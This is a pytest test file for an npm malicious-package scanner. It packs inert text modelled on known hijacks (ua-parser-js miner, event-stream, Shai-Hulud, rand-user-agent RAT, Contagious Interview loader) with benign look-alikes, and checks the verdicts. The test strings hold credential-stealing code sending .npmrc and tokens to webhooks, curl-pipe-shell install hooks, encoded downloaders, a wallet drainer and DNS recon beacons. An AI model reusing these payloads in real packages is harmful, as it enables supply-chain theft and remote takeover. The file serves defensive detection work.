"""npm positives written as inert text in the shape of known hijacks, plus benign look-alikes."""

from __future__ import annotations

import pytest

from tests.packages.helpers import facts_of, npm_tgz, verdict


def test_ua_parser_js_style_preinstall_miner() -> None:
    preinstall_js = '''
const { exec } = require("child_process");
function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {});
}
var opsys = process.platform;
if (opsys == "linux") { terminalLinux(); }
else if (opsys == "win32") { exec("preinstall.bat"); }
'''
    miner_args = "-k --tls --rig-id q -o pool.minexmr.com:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUm" \
        " --cpu-max-threads-hint=50 --donate-level=1 --background"
    preinstall_sh = f'''
IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]; then
  curl http://159.148.186.228/download/jsextension -o jsextension
  chmod +x jsextension
  ./jsextension {miner_args}
fi
'''
    preinstall_bat = '@echo off\ncurl http://159.148.186.228/download/jssc.exe -o jsextension.exe\nif not exist jsextension.exe (\n wget http://159.148.186.228/download/jssc.exe -O jsextension.exe\n)\nif not exist jsextension.exe (\n certutil.exe -urlcache -f http://159.148.186.228/download/jssc.exe jsextension.exe\n)\nstart jsextension.exe\n'  # noqa: E501
    data = npm_tgz("ua-parser-js", "0.7.29", {"index.js": "module.exports = function parse(ua) { return {ua}; };\n",
                                             "preinstall.js": preinstall_js, "preinstall.sh": preinstall_sh,
                                             "preinstall.bat": preinstall_bat},
                   scripts={"preinstall": "start /B node preinstall.js & node preinstall.js"})
    v, strong = verdict(data)
    assert v == "malicious"
    assert "package.install-downloader:critical" in strong


def test_event_stream_style_encrypted_payload() -> None:
    # flatmap-stream shape: hex-named helpers, a decipher keyed by an env var, compiled as a module
    code = ('var Stream=require("stream").Stream;module.exports=function(e,n){var i=new Stream;return i};\n'
            '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
            'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
            'var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));'
            'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();\n')
    data_js = ('module.exports=["aGVsbG8=","x","63727970746f","656e76","6e706d5f7061636b6167655f6465736372697074696f6e",'  # noqa: E501
               '"6165733235362d636263","6372656174654465636970686572","5f636f6d70696c65","686578","75746638"];\n')
    data = npm_tgz("flatmap-stream", "0.1.1", {"index.min.js": code, "test/data.js": data_js})
    v, strong = verdict(data)
    assert v == "malicious", strong
    assert "package.decoded-exec:critical" in strong


def test_chalk_debug_2025_style_wallet_drainer_in_index() -> None:
    wallets = ",".join(f'"0x{i:040x}"' for i in range(1, 40)) + "," + \
        ",".join(f'"bc1q{"a" * 10}{i:030d}"'.replace("1", "q") for i in range(5))
    drainer = ("const _0x1a2b=[" + wallets + "];" +
               "".join(f"var _0x{i:04x}=_0x1a2b[{i}];" for i in range(40)) +
               "if(typeof window!=='undefined'&&window.ethereum){const _0xorig=window.ethereum.request;"
               "window.ethereum.request=async function(_0xargs){if(_0xargs.method==='eth_sendTransaction'){"
               "_0xargs.params[0].to=_0x1a2b[0];}return _0xorig.apply(this,arguments);};}"
               "const _0xfetch=window.fetch;window.fetch=async function(){return _0xfetch.apply(this,arguments)};"
               "const _0xopen=XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open=function(){"
               "return _0xopen.apply(this,arguments)};\n")
    index = "const styles = {};\nmodule.exports = function chalk(s) { return s; };\n" + drainer
    data = npm_tgz("chalk", "5.6.1", {"index.js": index})
    v, strong = verdict(data)
    assert v == "malicious", strong
    assert "package.decoded-exec:critical" in strong


def test_shai_hulud_style_postinstall_bundle() -> None:
    bundle = '''
const { execSync } = require("child_process");
const os = require("os");
const fs = require("fs");
const https = require("https");
async function main() {
  const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
  const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
  const rel = "https://github.com/trufflesecurity/trufflehog/releases/download/v3.0.0/";
  execSync("curl -sL " + rel + "trufflehog_linux_amd64.tar.gz -o /tmp/t.tgz && tar xzf /tmp/t.tgz -C /tmp");
  const found = execSync("/tmp/trufflehog filesystem / --json").toString();
  const body = JSON.stringify({ env: process.env, npmrc, found, token });
  const opts = { hostname: "webhook.site", path: "/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7" };
  const req = https.request({ ...opts, method: "POST" });
  req.write(body);
  req.end();
}
main();
'''
    data = npm_tgz("@ctrl/tinycolor", "4.1.1", {"index.js": "module.exports = {};\n", "bundle.js": bundle},
                   scripts={"postinstall": "node bundle.js"})
    v, strong = verdict(data)
    assert v == "malicious", strong
    assert any(s.startswith(("package.exfiltration", "package.install-downloader", "package.download-exec"))
               and s.endswith("critical") for s in strong), strong


def test_benign_native_build_and_cli_spawning_stays_clean() -> None:
    lib = '''
const { spawn } = require("child_process");
const path = require("path");
module.exports = function run(args) {
  const child = spawn(process.execPath, [path.join(__dirname, "cli.js"), ...args], { env: process.env });
  return new Promise((resolve) => child.on("close", resolve));
};
'''
    data = npm_tgz("fast-native-thing", "3.1.0", {"index.js": lib, "cli.js": "console.log(process.argv)\n",
                                                  "binding.gyp": "{}"},
                   scripts={"install": "node-gyp-build", "test": "node test.js"})
    v, strong = verdict(data)
    assert v == "clean", strong


def test_install_hook_facts_are_recorded() -> None:
    facts = facts_of(npm_tgz("x-hooked", "1.0.0", {"index.js": ""}, scripts={"postinstall": "node setup.js"}))
    assert facts.ecosystem == "npm"
    assert facts.install_hooks == [{"kind": "npm:postinstall", "command": "node setup.js"}]


def test_scoped_fork_of_a_popular_package_is_weaker_than_a_look_alike_name() -> None:
    """@acme/esbuild is how organisations publish forks (typed with the scope on purpose); a look-alike
    unscoped name (esbulid) catches typos. Both are named, with different weight."""
    install = 'const https = require("https");\nhttps.get("https://registry.npmjs.org/esbuild", () => {});\n'
    files = {"index.js": "module.exports = {};\n", "install.js": install}
    fork_verdict, fork = verdict(npm_tgz("@acme/esbuild", "0.14.39", files, scripts={"postinstall": "node install.js"}))
    _, squat = verdict(npm_tgz("esbulid", "0.14.39", files, scripts={"postinstall": "node install.js"}))
    assert "package.typosquat:medium" in fork and fork_verdict != "malicious", fork
    assert "package.typosquat:high" in squat, squat


def test_dependency_confusion_recon_over_dns_at_install() -> None:
    recon = ('const os = require("os"); const dns = require("dns");\n'
             'const data = Buffer.from(os.hostname() + "|" + os.userInfo().username).toString("hex");\n'
             'data.match(/.{1,60}/g).forEach((c, i) => dns.lookup(`${i}.${c}.d3x8f.oast.fun`, () => {}));\n')
    data = npm_tgz("acme-internal-config", "99.1.0", {"index.js": recon}, scripts={"postinstall": "node index.js"})
    v, strong = verdict(data)
    assert v == "malicious", strong
    assert "package.install-beacon:critical" in strong
    benign = npm_tgz("dns-cache-lite", "1.2.0", {"index.js": 'const dns = require("dns");\n'
                                                           'module.exports = (h, cb) => dns.lookup(h, cb);\n'})
    assert verdict(benign)[0] == "clean"


def test_contagious_interview_style_loader_required_by_main() -> None:
    loader = ('const fs = require("fs"), os = require("os"), path = require("path"), request = require("request");\n'
              'const ex = require("child_process").exec;\n'
              'const u = "http://" + "95.164.17.24" + ":1224";\n'
              'function dl() {\n'
              '  const p = path.join(os.homedir(), ".npl");\n'
              '  request.get(u + "/client/99", (e, r, body) => { fs.writeFileSync(p, body); ex(`python3 "${p}"`); });\n'
              '}\n'
              'dl();\n')
    data = npm_tgz("react-icon-kit-pro", "1.0.3", {"index.js": "module.exports = require('./lib/util.js');\n",
                                                  "lib/util.js": loader})
    v, strong = verdict(data)
    assert v == "malicious", strong
    assert "package.download-exec:critical" in strong


def test_npmrc_sent_to_a_discord_webhook_from_request_options() -> None:
    stealer = ('const fs = require("fs"), os = require("os"), https = require("https");\n'
               'function collect() {\n'
               '  const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\n'
               '  const body = JSON.stringify({ npmrc });\n'  # shorthand property carries the taint
               '  const req = https.request({ hostname: "discord.com", method: "POST",\n'
               '                              path: "/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz" });\n'
               '  req.write(body); req.end();\n'
               '}\n'
               'module.exports = () => 1;\ncollect();\n')
    facts = facts_of(npm_tgz("color-logs-fast", "1.0.0", {"index.js": stealer}))
    flows = [s for s in facts.signals if s.kind == "flow.exfiltration"]
    assert flows and "credential" in flows[0].detail["sources"]
    v, strong = verdict(npm_tgz("color-logs-fast", "1.0.0", {"index.js": stealer}))
    assert v == "malicious" and "package.bot-token-endpoint:critical" in strong, strong


def test_prebuilt_binary_installer_with_callbacks_stays_clean() -> None:
    installer = ('const https = require("https"), fs = require("fs"), { execSync } = require("child_process");\n'
                 'const { version } = require("./package.json");\n'
                 'const url = `https://github.com/acme/tool/releases/download/v${version}/tool-${process.platform}.tgz`;\n'
                 'https.get(url, (res) => {\n'
                 '  const f = fs.createWriteStream("tool.tgz");\n'
                 '  res.pipe(f);\n'
                 '  f.on("finish", () => execSync("tar xzf tool.tgz -C bin"));\n'
                 '});\n')
    data = npm_tgz("acme-tool", "3.2.0", {"index.js": "module.exports = require('./bin/tool');\n",
                                          "install.js": installer}, scripts={"postinstall": "node install.js"})
    v, strong = verdict(data)
    assert v == "clean", strong
    dropper = installer.replace("https://github.com/acme/tool/releases/download", "http://95.164.17.24:1224")
    data = npm_tgz("acme-tool", "3.2.1", {"index.js": "module.exports = require('./bin/tool');\n",
                                          "install.js": dropper}, scripts={"postinstall": "node install.js"})
    assert "package.download-exec:critical" in verdict(data)[1]


def test_install_script_starting_a_shipped_executable_is_a_dropper() -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 200
    setup = ("const { spawn } = require('child_process');\nconst path = require('path');\n"
             "spawn(path.join(__dirname, 'vendor', 'svc-helper'), [], { detached: true, stdio: 'ignore' }).unref();\n")
    data = npm_tgz("fast-json-utils", "3.0.1", {"index.js": "module.exports = JSON;\n", "setup.js": setup,
                                                 "vendor/svc-helper": elf}, scripts={"postinstall": "node setup.js"})
    result, top = verdict(data)
    assert result in ("suspicious", "malicious") and "package.runs-shipped-binary:high" in top, top


def test_install_script_running_a_shipped_dll_through_rundll32_is_malicious() -> None:
    """The eslint-config-prettier hijack (July 2025): install.js starts the bundled node-gyp.dll."""
    pe = b"MZ" + b"\x00" * 0x3A + (0x80).to_bytes(4, "little") + b"\x00" * 0x40 + b"PE\x00\x00" + b"\x00" * 300
    install = ("const { spawn } = require('child_process');\nconst os = require('os');\n"
               "if (os.platform() === 'win32') {\n"
               "  spawn('rundll32', [__dirname + '/node-gyp.dll,main'], { detached: true, stdio: 'ignore' })\n"
               "    .unref();\n}\n")
    data = npm_tgz("eslint-config-prettier", "10.1.7", {"index.js": "module.exports = {};\n", "install.js": install,
                                                         "node-gyp.dll": pe}, scripts={"install": "node install.js"})
    result, top = verdict(data)
    assert result == "malicious" and "package.runs-shipped-binary:critical" in top, top


def test_rat_appended_off_screen_with_require_through_a_global() -> None:
    """The rand-user-agent hijack (May 2025): a socket.io RAT after 2,000 blanks at the end of the entry
    file, with ``require`` reached through ``global['r']``."""
    rat = ("global['_V']='5-3';global['r']=require;(async()=>{const io=r('socket.io-client');"
           "const s=io('http://85.239.62.36:3306');s.on('command',(c)=>{r('child_process').exec(c,"
           "(e,o)=>s.emit('result',o))});})();\n")
    index = "module.exports = function () { return 'Mozilla/5.0'; };" + " " * 2000 + rat
    result, top = verdict(npm_tgz("rand-user-agent", "2.0.83", {"index.js": index}))
    assert result == "malicious", top
    assert "package.download-exec:critical" in top and "package.obfuscated-code:high" in top, top


@pytest.mark.parametrize("hook", [
    "curl -fsSL https://pastebin.com/raw/x1Yz | node",
    "sh -c \"$(curl -fsSL https://203.0.113.7/install.sh)\"",
    "bash <(wget -qO- https://203.0.113.7/a.sh)",
])
def test_install_hook_handing_a_fetched_script_to_an_interpreter(hook: str) -> None:
    result, top = verdict(npm_tgz("left-pad-utils", "1.0.3", {"index.js": "module.exports = 1;\n"},
                                  scripts={"postinstall": hook}))
    assert result == "malicious" and "package.install-downloader:critical" in top, top


def _with_dependency(spec: str) -> bytes:
    import json

    from tests.packages.helpers import tar_bytes

    manifest = {"name": "eslint-plugin-import-order-x", "version": "1.0.2", "description": "lint rules",
                "main": "index.js", "repository": {"type": "git", "url": "https://example.org/x.git"},
                "dependencies": {"unused-imports": spec, "lodash": "^4.17.21"}}
    return tar_bytes({"package.json": json.dumps(manifest), "index.js": "module.exports = {};\n"}, "package/")


def test_dependency_fetched_from_a_url_is_code_no_registry_scan_saw() -> None:
    """PhantomRaven (2025): the payload sits in a 'remote dynamic dependency' the registry never held."""
    result, top = verdict(_with_dependency("http://packages.storeartifact.com/npm/unused-imports"))
    assert result == "suspicious" and top == ["package.remote-dependency:high"], top
    result, top = verdict(_with_dependency("https://45.61.136.9/unused-imports-1.0.0.tgz"))
    assert result == "malicious" and "package.remote-dependency:critical" in top, top
    result, top = verdict(_with_dependency("https://registry.npmjs.org/unused-imports/-/unused-imports-4.1.4.tgz"))
    assert result == "clean", top
    result, top = verdict(_with_dependency("github:someone/unused-imports#v4.1.4"))
    assert result == "clean", top  # a fork pinned from git: noted (low), not flagged
    facts = facts_of(_with_dependency("github:someone/unused-imports#v4.1.4"))
    assert [s.detail["spec"] for s in facts.signals if s.kind == "meta.remote-dependency"] == [
        "github:someone/unused-imports#v4.1.4"]


@pytest.mark.parametrize("load", ["process.mainModule.require('child_process')", "module.require('child_process')",
                                  "(await import('node:child_process'))"])
def test_child_process_reached_without_a_plain_require(load: str) -> None:
    """The module object's own require and a dynamic import load child_process just as well."""
    payload = "Y3VybCAtcyBodHRwOi8vNDUuNjEuMTM2LjkveCB8IHNo"  # curl -s http://45.61.136.9/x | sh
    code = f"(async () => {{ const cp = {load}; cp.exec(Buffer.from('{payload}', 'base64').toString()); }})();\n"
    facts = facts_of(npm_tgz("fmt-utils", "2.0.0", {"setup.js": code, "index.js": "module.exports = 1;\n"},
                             scripts={"postinstall": "node setup.js"}))
    assert any(s.kind == "exec.process" and s.file == "setup.js" and s.detail.get("api") == "child_process.exec"
               for s in facts.signals), [(s.kind, s.detail) for s in facts.signals]


def test_command_spelled_as_character_codes_spread_into_from_char_code() -> None:
    codes = ",".join(str(ord(c)) for c in "curl http://45.61.136.9/x | sh")
    code = f"const k = [{codes}];\nrequire('child_process').exec(String.fromCharCode(...k));\n"
    result, top = verdict(npm_tgz("fmt-utils", "2.0.0", {"setup.js": code, "index.js": "module.exports = 1;\n"},
                                  scripts={"postinstall": "node setup.js"}))
    assert result == "malicious" and "package.install-downloader:critical" in top, top


@pytest.mark.parametrize(("files", "scripts"), [
    ({"index.js": "module.exports = {}\n"}, {"preinstall": "curl https://$(whoami).c1abc2def.oast.fun"}),
    ({"index.js": "module.exports = {}\n"}, {"preinstall": "ping -c 1 $(hostname).abc.burpcollaborator.net"}),
    ({"index.js": "const {exec} = require('child_process');\n"
                  "exec('nslookup $(whoami).$(hostname).c1abc2def.oast.pro');\n"}, {"preinstall": "node index.js"}),
])
def test_machine_data_in_a_callback_dns_name_at_install_is_a_beacon(files: dict[str, str],
                                                                     scripts: dict[str, str]) -> None:
    """Dependency-confusion recon: the shell builds the DNS name from the machine, so the lookup carries the
    user and host names to the callback service. No URL scheme, so these were clean."""
    result, findings = verdict(npm_tgz("acme-internal-utils", "9.9.9", files, scripts=scripts))
    assert result == "malicious" and "package.install-beacon:critical" in findings


def test_callback_service_names_in_a_client_stay_clean() -> None:
    """An interactsh-style client lists the services by name; no callback host of its own, nothing run."""
    js = "const SERVERS = ['oast.pro', 'oast.live', 'oast.site', 'oast.online', 'oast.fun', 'oast.me'];\n" \
         "module.exports = { pick: () => SERVERS[Math.floor(Math.random() * SERVERS.length)] };\n"
    result, findings = verdict(npm_tgz("oast-client", "1.2.0", {"index.js": js}))
    assert result == "clean", findings


def test_bin_named_after_a_core_command_is_a_hijack() -> None:
    """A package whose bin is called ``npm`` or ``git`` puts its own program in front of the real one on
    the next global install (bin shadowing); the owners of those names are exempt."""
    import json

    from tests.packages.helpers import tar_bytes

    def package(name: str, bins: dict[str, str]) -> bytes:
        manifest = {"name": name, "version": "1.0.3", "description": "A library", "main": "index.js", "bin": bins,
                    "repository": {"type": "git", "url": f"https://example.org/{name}.git"}}
        return tar_bytes({"package.json": json.dumps(manifest), "index.js": "module.exports = {}\n",
                          "cli.js": "#!/usr/bin/env node\nconsole.log('hi')\n"}, "package/")

    result, findings = verdict(package("fast-utils-kit", {"fast-utils": "cli.js", "git": "cli.js"}))
    assert result == "suspicious" and findings == ["package.bin-hijack:high"]
    assert verdict(package("npm", {"npm": "cli.js", "npx": "cli.js"}))[0] == "clean"
    assert verdict(package("fast-utils-kit", {"fast-utils": "cli.js"}))[0] == "clean"


def test_internal_tty_binding_beside_a_socket_is_not_fetch_and_run() -> None:
    """debug 2.6.9 (in every other lockfile) opens its output stream through ``process.binding('tty_wrap')``
    and, for a pipe, ``new net.Socket({fd})``, in one function run at import. Only the spawning bindings
    (``spawn_sync``, ``process_wrap``) are process starts; this was package.download-exec critical."""
    js = ("function stdioStream(fd) {\n  var stream;\n  var ttyWrap = process.binding('tty_wrap');\n"
          "  switch (ttyWrap.guessHandleType(fd)) {\n"
          "    case 'TTY': stream = new (require('tty').WriteStream)(fd); break;\n"
          "    case 'PIPE': case 'TCP':\n"
          "      var net = require('net');\n"
          "      stream = new net.Socket({ fd: fd, readable: false, writable: true });\n      break;\n  }\n"
          "  return stream;\n}\nmodule.exports = stdioStream(2);\n")
    result, findings = verdict(npm_tgz("debug-like", "2.6.9", {"index.js": js}))
    assert result == "clean", findings
    spawn = "var b = process.binding('spawn_sync');\nmodule.exports = b;\n"
    assert any(s.kind == "exec.process" for s in facts_of(npm_tgz("x-kit", "1.0.0", {"index.js": spawn})).signals)


NET_HOST = "https://cdn-update.example.net/s"


@pytest.mark.parametrize("js", [
    # the "is" backdoor shape (July 2025): a WebSocket whose messages are evaluated
    f"const WebSocket = require('ws');\nconst ws = new WebSocket('{NET_HOST}');\n"
    "ws.on('message', m => { new Function(m.toString())(); });\nmodule.exports = {};\n",
    # a response read in chunks into a variable of the enclosing handler, evaluated on 'end'
    f"const https = require('https');\nhttps.get('{NET_HOST}', res => {{ let d = '';\n"
    "  res.on('data', c => d += c);\n  res.on('end', () => eval(d)); }});\n",
    f"const https = require('https');\nhttps.get('{NET_HOST}', function (res) {{ var body = [];\n"
    "  res.on('data', function (c) { body.push(c); });\n"
    "  res.on('end', function () { new Function(Buffer.concat(body).toString())(); }); });\n",
    # eval handed over by name, and a browser-style handler property
    f"fetch('{NET_HOST}').then(r => r.text()).then(eval);\n",
    f"var x = new XMLHttpRequest();\nx.open('GET', '{NET_HOST}');\n"
    "x.onload = function () { eval(x.responseText); };\nx.send();\n",
])
def test_network_data_reaching_eval_through_handlers_is_download_exec(js: str) -> None:
    """What a network object's handlers receive is network data: handler parameters, the variables they
    accumulate into (declared in an enclosing function) and a handler property's object. These ran at import
    and were clean: the host is not a drop host, so the callback join alone did not count."""
    result, findings = verdict(npm_tgz("qwerty-kit", "1.0.0", {"index.js": js}))
    assert result == "malicious" and "package.download-exec:critical" in findings, findings


def test_network_handlers_that_parse_or_save_stay_clean() -> None:
    """Handlers that parse messages, and a release-binary installer joined through callbacks, evaluate
    nothing; minified code reusing a handler's parameter name in another function stays apart too."""
    ws = (f"const WebSocket = require('ws');\nconst ws = new WebSocket('{NET_HOST}');\n"
          "ws.on('message', m => { const o = JSON.parse(m); console.log(o.type); });\nmodule.exports = ws;\n")
    installer = ("const https = require('https'); const fs = require('fs');\n"
                 "const { execSync } = require('child_process');\n"
                 "https.get('https://github.com/x/y/releases/download/v1/bin.tgz', res => {\n"
                 "  const f = fs.createWriteStream('bin.tgz'); res.pipe(f);\n"
                 "  f.on('finish', () => execSync('tar xzf bin.tgz')); });\n")
    minified = (f"function a(i){{fetch('{NET_HOST}').then(function(i){{return i.json()}})}}"
                "function b(t){var i='return '+t;return Function(i)()}module.exports={a:a,b:b};\n")
    for js in (ws, installer, minified):
        result, findings = verdict(npm_tgz("qwerty-kit", "1.0.0", {"index.js": js}))
        assert result == "clean", (js, findings)
    facts = facts_of(npm_tgz("qwerty-kit", "1.0.0", {"index.js": minified}))
    assert not [s for s in facts.signals if s.kind == "net.download-exec"]


def test_source_labels_do_not_travel_through_closures() -> None:
    """@datadog/datadog-ci-plugin-sbom's bundle: a helper name labelled by an environment read in one
    function was seen by a nested one that passes it to tls.connect, which made an exfiltration of the
    environment (critical) out of pac-proxy-agent. Only network data travels into closures."""
    js = ("function agent() {\n  const settings = JSON.stringify(process.env);\n"
          "  const pick = settings ? (o) => o : null;\n"
          "  return function connect(opts) { return require('tls').connect(pick(opts)); };\n}\n"
          "module.exports = agent();\n")
    result, findings = verdict(npm_tgz("proxy-agent-like", "1.0.0", {"index.js": js}))
    assert result == "clean", findings


def test_ci_workflow_written_at_install_is_persistence() -> None:
    """Shai-Hulud planted a GitHub Actions workflow that posts the repository's secrets; npm runs install
    scripts in the project's folder, so a workflow written there runs on its next push."""
    install = ("const fs = require('fs');\nfs.mkdirSync('.github/workflows', { recursive: true });\n"
               "fs.writeFileSync('.github/workflows/sync.yml', 'on: push\\njobs:\\n  s:\\n    runs-on: ubuntu-latest\\n"
               "    steps:\\n      - run: echo ${{ toJSON(secrets) }}\\n');\n")
    result, findings = verdict(npm_tgz("qwerty-kit", "1.0.0", {"index.js": "module.exports = 1;\n",
                                                                "install.js": install},
                                       scripts={"postinstall": "node install.js"}))
    assert result == "suspicious" and findings == ["package.persistence:high"], findings
    generator = ("const fs = require('fs');\nexports.scaffold = function (dir) {\n"
                 "  fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push\\n');\n};\n")
    assert verdict(npm_tgz("create-my-app", "3.1.0", {"index.js": generator}))[0] == "clean"


def test_download_commands_in_a_file_that_starts_nothing_are_mentions() -> None:
    """A CLI's help text names its installer (``curl ... | bash``); the file starts no process, so the command
    is text. The same command handed to child_process still counts."""
    text = ("const CURL_INSTALL_COMMAND = 'curl -fsSL https://x.example.net/install | bash';\n"
            "module.exports = () => console.log(`Install it with: ${CURL_INSTALL_COMMAND}`);\n")
    assert verdict(npm_tgz("cli-kit", "1.0.0", {"index.js": text}))[0] == "clean"
    runs = text + "require('child_process').execSync(CURL_INSTALL_COMMAND);\n"
    assert verdict(npm_tgz("cli-kit", "1.0.0", {"index.js": runs}))[0] != "clean"


def test_fifth_held_out_batch_npm_shapes() -> None:
    """Causes behind the fifth held-out batch's npm false positives: a bundle's module wrapper carried
    every environment read of the module's code into each name bound to it (miniflare), named variables
    destructured from ``process.env`` counted as a dump of it (@chromatic-com/storybook), and a token named
    after the package sent to its service (browserstack-local)."""
    index = (
        "const https = require('https');\n"
        "var require_agent = __commonJS({ 'agent.js'(exports, module) { module.exports = { env: process.env }; } });\n"
        "var import_agent = __toESM(require_agent(), 1);\n"
        "function get(url) { const options = { hostname: url, agent: import_agent }; return https.request(options); }\n"
        "var { CHROMATIC_BASE_URL: base = 'https://www.chromatic.com' } = process.env;\n"
        "const tokenUrl = () => `${base}/token`;\n"
        "fetch(tokenUrl(), { method: 'POST', body: 'grant_type=code' });\n"
        "module.exports = { get };\n")
    fetcher = ("const https = require('https');\nconst authToken = process.env.HELPERLIB_LOCAL_AUTH_TOKEN;\n"
               "const req = https.request({ hostname: 'local.helperlib.com', method: 'POST' });\n"
               "req.write(JSON.stringify({ auth_token: authToken }));\nreq.end();\n")
    for files in ({"package/index.js": index}, {"package/lib/fetch.js": fetcher}):
        result, findings = verdict(npm_tgz("helperlib-local", "1.0.0", files))
        assert result == "clean", (files, findings)
    # a function returning the environment still carries it; a stolen token named after another tool and
    # the rest of a destructured environment are still exfiltration
    bad = [
        "const collect = function () { return { env: process.env }; };\n"
        "fetch('https://a.example/c', { method: 'POST', body: JSON.stringify(collect()) });\n",
        fetcher.replace("HELPERLIB_LOCAL_AUTH_TOKEN", "NPM_TOKEN"),
        "const { HOME, ...rest } = process.env;\n"
        "fetch('https://a.example/z', { method: 'POST', body: JSON.stringify(rest) });\n",
    ]
    for code in bad:
        result, findings = verdict(npm_tgz("helperlib-local", "1.0.0", {"package/index.js": code}))
        assert "package.exfiltration:critical" in findings, code


def test_top_level_command_constant_takes_the_phase_of_its_uses() -> None:
    """A command kept in a top-level constant runs where the constant is used: only inside a function
    that runs later, it is a run-time command (an upgrade helper in a CLI bundle); used on load, it is
    still an install/import-time downloader."""
    later = ('var CURL_INSTALL_COMMAND = "curl -fsSL https://api.example.sh/install | bash", OTHER = 1;\n'
             'function upgrade() { require("child_process").execSync(CURL_INSTALL_COMMAND); }\n'
             "module.exports = { upgrade };\n")
    facts = facts_of(npm_tgz("helperlib", "1.0.0", {"package/index.js": later}))
    phases = {s.phase for s in facts.signals if s.kind == "exec.shell-downloader"}
    assert phases == {"runtime"}
    now = later.replace("module.exports = { upgrade };", "upgrade();")
    assert "package.install-downloader:high" in verdict(npm_tgz("helperlib", "1.0.0", {"package/index.js": now}))[1]


def test_type_declarations_and_discord_docs_are_not_code_or_channels() -> None:
    """A ``.d.mts`` declaration file holds types and doc comments, not code (@discordjs/formatters links
    Discord's developer docs and help-centre articles there); a webhook URL in real code still counts."""
    docs = ("declare function phoneNumber<P extends `+${string}`>(p: P): `<${P}>`;\n"
            "/** See https://discord.com/developers/docs/reference#message-formatting and "
            "https://support.discord.com/hc/articles/13497665141655 */\n"
            "declare function time(seconds: number): string;\n")
    # a type that spells a webhook with its token: code would be judged on it, a declaration runs nothing
    typed = docs + ("export declare const HOOK: 'https://discord.com/api/webhooks/1234567/"
                    "abcdefghijklmnopqrstuvwxyz';\n")
    files = {"package/dist/index.d.mts": typed, "package/index.js": "module.exports = {};\n"}
    assert not [s for s in facts_of(npm_tgz("helperlib", "1.0.0", files)).signals if s.file.endswith(".d.mts")]
    result, findings = verdict(npm_tgz("helperlib", "1.0.0", files))
    assert result == "clean", findings
    links = "const DOCS = ['https://discord.com/developers/docs/reference', 'https://support.discord.com/hc/articles/1'];\n"
    facts = facts_of(npm_tgz("helperlib", "1.0.0", {"package/index.js": links}))
    assert not [s for s in facts.signals if s.kind == "endpoint.shady"]
    hook = "fetch('https://discord.com/api/webhooks/1234567/abcdefghijklmnopqrstuvwxyz', {method: 'POST'});\n"
    assert verdict(npm_tgz("helperlib", "1.0.0", {"package/index.js": hook}))[0] != "clean"


def test_sixteenth_held_out_batch_npm_shape() -> None:
    """A bundle's global-object shim ``Function("return this")()`` in the same function as its transport's
    fetch (socket.io's client bundle) runs no fetched code; a Function built from a response does."""
    shim = ("function client(url) {\n  var g = typeof self !== 'undefined' ? self : Function('return this')();\n"
            "  return fetch(url).then(function (r) { return r.text(); }).then(function (t) { g.last = t; });\n}\n"
            "module.exports = client;\nclient('https://helperlib.example/ping');\n")
    result, findings = verdict(npm_tgz("helperlib-client", "1.0.0", {"index.js": shim}))
    assert result == "clean", findings
    bad = shim.replace("Function('return this')()", "Function(globalThis.__helper)()")
    result, findings = verdict(npm_tgz("helperlib-client", "1.0.0", {"index.js": bad}))
    assert result != "clean", findings


def test_nineteenth_held_out_batch_npm_shapes() -> None:
    """Causes behind the nineteenth held-out batch's npm false positives: a postinstall that downloads its
    binary through the user's npm proxy settings (serverless: ``npm_config_https_proxy`` read as a secret),
    and a wallet connector's bundle that names wallets, mentions ``eth_sendTransaction``, lists token
    contract addresses and allows ``https://*.ngrok-free.app`` origins (@walletconnect/ethereum-provider)."""
    install = ("const url = 'https://github.com/helperlib/helperlib/releases/download/v1/helperlib';\n"
               "const proxy = process.env.npm_config_https_proxy || process.env.npm_config_proxy;\n"
               "async function main() { const res = await fetch(url, { proxy }); return res.arrayBuffer(); }\n"
               "main();\n")
    tokens = ",".join(f'"0x{i:040x}"' for i in range(1, 19))
    connector = ("const TOKENS=[" + tokens + "];\nconst ORIGINS=['https://*.ngrok-free.app','https://*.vercel.app'];\n"
                 "const NAMES={METAMASK:'MetaMask',PHANTOM:'Phantom wallet',SDK:'@metamask/sdk',P:'phantom/'};\n"
                 "async function send(tx){ if (window.ethereum) { return window.ethereum.request("
                 "{method:'eth_sendTransaction',params:[tx]}); } return fetch('https://rpc.helperlib.example', "
                 "{method:'POST', body: JSON.stringify(tx)}); }\nmodule.exports = { send, TOKENS, ORIGINS, NAMES };\n")
    result, findings = verdict(npm_tgz("helperlib-cli", "1.0.0", {"index.js": "", "install.js": install},
                                       scripts={"postinstall": "node install.js"}))
    assert result == "clean", findings
    result, findings = verdict(npm_tgz("helperlib-connector", "1.0.0", {"index.js": connector}))
    assert result == "clean", findings
    # the npm token sent, the provider's request replaced, and a concrete tunnel host are still judged
    result, findings = verdict(npm_tgz("helperlib-cli", "1.0.0", {
        "index.js": "", "install.js": install.replace("npm_config_https_proxy", "NPM_TOKEN")},
        scripts={"postinstall": "node install.js"}))
    assert result != "clean", findings
    hijack = connector.replace("async function send(tx){",
                               "const orig=window.ethereum.request;window.ethereum.request=async function(a)"
                               "{a.params[0].to=TOKENS[0];return orig.apply(this,arguments);};\n"
                               "async function send(tx){")
    result, findings = verdict(npm_tgz("helperlib-connector", "1.0.0", {"index.js": hijack}))
    assert result == "malicious", findings
    result, findings = verdict(npm_tgz("helperlib-connector", "1.0.0", {
        "index.js": "fetch('https://a1b2c3.ngrok-free.app/p', {method: 'POST', body: 'x'});\n"}))
    assert result != "clean", findings
